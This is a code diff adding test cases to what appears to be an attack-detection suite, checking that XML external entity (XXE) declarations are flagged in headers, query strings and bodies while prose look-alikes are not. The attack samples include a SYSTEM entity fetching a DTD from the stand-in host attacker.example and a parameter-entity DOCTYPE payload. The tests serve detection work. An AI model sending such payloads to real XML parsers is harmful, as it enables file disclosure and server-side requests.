@@ -194,3 +194,29 @@ describe('markup in parameter names, and markup that changes the page around it 
     'query',
   );
 });
+
+describe('external entity declarations (strict mode)', () => {
+  checkAttacks(
+    asUserAgent,
+    'xss',
+    [
+      // with or without the `<`, a parameter entity or a general one, pointing anywhere
+      { value: 'foo!ENTITY % bar SYSTEM', severity: 1, rule: 'xss.entity_declaration' },
+      { value: '<!ENTITY xxe SYSTEM "http://attacker.example/x.dtd">', location: 'query', severity: 1 },
+      { value: '<!DOCTYPE r [<!ENTITY\n%\tp PUBLIC "-//X//EN" "x.dtd">%p;]>', location: 'body', severity: 1 },
+    ],
+    'header',
+  );
+  checkBenign(
+    asUserAgent,
+    [
+      // the words in prose, in other case, or a declaration without an external identifier
+      { value: 'The ENTITY SYSTEM is described in chapter 2.', location: 'body' },
+      { value: 'Mozilla/5.0 (entity system) Firefox/120.0' },
+      { value: '<!ENTITY copy "&#169;">', location: 'body' },
+      { value: '!entity % bar system', location: 'query' },
+      { value: '{"note":"!ENTITY is the keyword, SYSTEM follows later"}', location: 'body' },
+    ],
+    'header',
+  );
+});
